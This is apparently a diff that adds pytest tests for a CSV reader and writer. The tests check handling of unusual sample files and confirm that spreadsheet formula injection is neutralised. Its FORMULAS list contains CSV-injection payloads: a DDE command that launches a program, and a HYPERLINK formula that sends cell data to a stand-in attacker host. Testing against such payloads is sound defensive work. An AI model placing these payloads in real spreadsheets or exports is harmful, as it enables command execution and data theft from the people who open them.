@@ -4,6 +4,7 @@ import codecs
 import contextlib
 import csv
 from io import StringIO
+from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -12,10 +13,12 @@ from hypothesis import strategies as st
 from foresight.core.problems import Problem
 from foresight.core.text import clean_prose
 from foresight.core.words import speaking
+from foresight.exchange.cells import columns, whole_number
 from foresight.exchange.csv_files import SEPARATORS, read_csv, separator_of, write_csv
 from foresight.exchange.formulas import RUNS, guarded, unguarded
 from foresight.exchange.table import COLUMNS_MOST, ROWS_MOST, letters
 
+SAMPLES = Path(__file__).parents[1] / "data" / "hostile" / "csv"
 LETTERS = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@'\";,|\t\n ＝sep"), max_size=12)
 TEXTS = LETTERS.map(clean_prose)
 
@@ -156,3 +159,59 @@ def test_any_bytes_are_a_table_or_a_problem(data: bytes) -> None:
 @pytest.mark.parametrize(("column", "name"), [(0, "A"), (25, "Z"), (26, "AA"), (701, "ZZ"), (702, "AAA")])
 def test_columns_are_named_as_a_spreadsheet_names_them(column: int, name: str) -> None:
     assert letters(column) == name
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "- point"]
+LOADED = {
+    "comma_point.csv": [("A", "1.5")],
+    "tab.csv": [("A", "1")],
+    "minus.csv": [("A", "−5"), ("B", "-5"), ("C", "(5)"), ("D", "5-")],
+    "embedded_newline.csv": [("A\nB", "1")],
+    "sep_line.csv": [("A", "1")],
+    "u2028.csv": [("A\nB", "1")],
+    "utf16.csv": [("Blåbær", "1")],
+    "bad_utf8.csv": [("ÿþú", "1")],
+}
+"""The rows below the heading of samples that are read."""
+
+
+@pytest.mark.parametrize("name", LOADED)
+def test_strange_but_sound_samples_are_read(name: str) -> None:
+    book = read_csv((SAMPLES / name).read_bytes())
+
+    assert list(book.sheets[0].rows[1:]) == LOADED[name]
+    assert bool(book.remarks) == (name == "bad_utf8.csv")
+
+
+@pytest.mark.parametrize("name", ["empty.csv", "only_bom.csv", "nul.csv"])
+def test_samples_without_a_table_are_refused(name: str) -> None:
+    with pytest.raises(Problem):
+        read_csv((SAMPLES / name).read_bytes())
+
+
+def test_the_sample_of_ragged_rows_gets_a_remark_on_each() -> None:
+    book = read_csv((SAMPLES / "ragged.csv").read_bytes())
+
+    assert [remark.where for remark in book.remarks] == ["row 2", "row 3"]
+
+
+def test_the_sample_of_a_double_heading_is_refused_when_columns_are_sought() -> None:
+    sheet = read_csv((SAMPLES / "dup_header.csv").read_bytes()).sheets[0]
+
+    with pytest.raises(Problem, match="comes twice"):
+        columns(sheet, {"title": "Name"}, ("title",))
+
+
+def test_no_digit_of_another_script_or_of_python_is_a_number() -> None:
+    sheet = read_csv((SAMPLES / "digits.csv").read_bytes()).sheets[0]
+
+    assert [whole_number(sheet.cell(row, 1)) for row in range(1, len(sheet.rows))] == [None] * 7
+
+
+def test_formulas_of_a_hostile_file_are_texts_and_leave_it_as_texts() -> None:
+    rows = read_csv((SAMPLES / "formulas.csv").read_bytes()).sheets[0].rows
+    written = write_csv(rows).decode("utf-8-sig")
+
+    assert set(FORMULAS) <= {row[0] for row in rows}
+    assert not [row for row in csv.reader(StringIO(written, newline="")) if row[0].startswith(RUNS)]
+    assert read_csv(write_csv(rows)).sheets[0].rows == rows
